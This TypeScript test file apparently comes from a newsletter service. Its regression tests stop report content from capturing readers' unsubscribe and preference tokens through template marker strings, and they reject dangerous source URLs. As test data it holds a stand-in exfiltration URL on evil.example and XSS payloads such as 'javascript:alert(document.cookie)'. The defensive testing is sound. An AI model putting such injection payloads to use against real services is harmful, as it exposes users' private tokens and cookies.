// A report must never be able to pull a reader's private links (unsubscribe and preference tokens) into
// text it controls: the attack posted a development whose URL, title and body held the template's
// marker strings, and every reader's copy carried their tokens to the attacker's site.
import { describe, expect, it } from 'vitest';
import { previewContent } from '../../../emails/preview-data';
import { renderIssueTemplate } from '../../../emails/render';
import { parseConfig } from '../../../functions/config';
import { issueEmail } from '../../../functions/domain/delivery/reader-email';
import { parseDevelopmentInput } from '../../../functions/domain/developments/input';
import { generateSecrets } from '../../../functions/local/secrets';

const config = parseConfig({ ...generateSecrets(), PUBLIC_URL: 'https://talkwatch.test' });
const settings = {
  publicUrl: config.PUBLIC_URL,
  from: config.FROM_ADDRESS,
  mailDomain: config.mailDomain,
  tokenKeys: config.TOKEN_KEYS,
};

const LEGACY = [
  'TW_PLACEHOLDER_PREFERENCES_URL',
  'TW_PLACEHOLDER_UNSUBSCRIBE_URL',
  'TW_PLACEHOLDER_GREETING',
];

async function copyFor(evil: string) {
  const content = previewContent('alert');
  const d = content.developments[0]!;
  d.title = `Talks resume ${evil}`;
  d.sources = [
    { url: `https://evil.example/collect?u=${evil}`, name: 'evil.example', publishedAt: d.publishedAt },
  ];
  d.summary.summary = `Negotiators met again. ${evil}`;
  content.subject = `Alert: ${evil}`;
  const template = await renderIssueTemplate({
    issueId: 'iss_x',
    kind: 'alert',
    frequencies: ['instant'],
    archiveUrl: 'https://talkwatch.test/archive/iss_x',
    content,
  });
  const email = issueEmail(
    settings,
    { id: 'iss_x', topic: content.topic, kind: 'alert', topicTitle: content.topicTitle },
    template,
    { subscriberId: 'sub_reader000000000000', email: 'reader@example.org' },
  );
  return { template, email };
}

describe('a report cannot capture readers’ private links', () => {
  it.each(LEGACY)(
    'leaves the legacy marker %s in a source URL, title, summary and subject as text',
    async (marker) => {
      const { email } = await copyFor(marker);
      expect(email.html).toContain(`href="https://evil.example/collect?u=${marker}"`);
      expect(email.subject).toBe(`Alert: ${marker}`);
      expect(email.text).toContain(`evil.example/collect?u=${marker}`);
      // Tokens appear only in the template's own links (the footer), never next to the attacker's URL.
      for (const part of [email.html, email.text, email.subject]) {
        expect(part).not.toMatch(/evil\.example\/collect\?u=[^"\s\]]*token=/);
      }
    },
  );

  it('draws new markers for every render, so content cannot guess them', async () => {
    const a = await copyFor('x');
    const b = await copyFor('x');
    expect(a.template.markers!.preferencesUrl).not.toBe(b.template.markers!.preferencesUrl);
    // Even a report holding one render's markers cannot reach the next render's readers.
    const { email } = await copyFor(a.template.markers!.preferencesUrl);
    expect(email.html).not.toMatch(/evil\.example\/collect\?u=[^"]*token=/);
  });

  it('puts each reader’s links exactly where the template put markers', async () => {
    const { template, email } = await copyFor('TW_PLACEHOLDER_PREFERENCES_URL');
    const markersInTemplate = template.html.split(template.markers!.preferencesUrl).length - 1;
    const linksInCopy = email.html.split('https://talkwatch.test/preferences?token=').length - 1;
    expect(markersInTemplate).toBeGreaterThan(0);
    expect(linksInCopy).toBe(markersInTemplate);
  });
});

describe('ingest refuses dangerous source links and strips marker-like text', () => {
  const base = {
    title: 'Envoys meet in Geneva',
    publishedAt: '2025-11-24T10:00:00Z',
    body: 'Negotiators from both sides met in Geneva on Monday to discuss the revised framework.',
  };

  it.each([
    'javascript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'ftp://files.example/report',
  ])('refuses the source URL %s with a message naming the field', (url) => {
    expect(() => parseDevelopmentInput({ ...base, url })).toThrow(/^url: must be an absolute http\(s\) URL/);
  });

  it('stores the URL percent-encoded and without marker-like strings', () => {
    const input = parseDevelopmentInput({
      ...base,
      url: 'https://news.example/a b?q="x"&u=TW_PLACEHOLDER_PREFERENCES_URL',
      title: 'Envoys TW_PLACEHOLDER_UNSUBSCRIBE_URL meet',
      body: `${base.body} twm0123456789abcdef0123456789abcdefp`,
    });
    expect(input.url).toBe('https://news.example/a%20b?q=%22x%22&u=');
    expect(input.title).toBe('Envoys  meet');
    expect(input.body).toBe(base.body);
  });
});
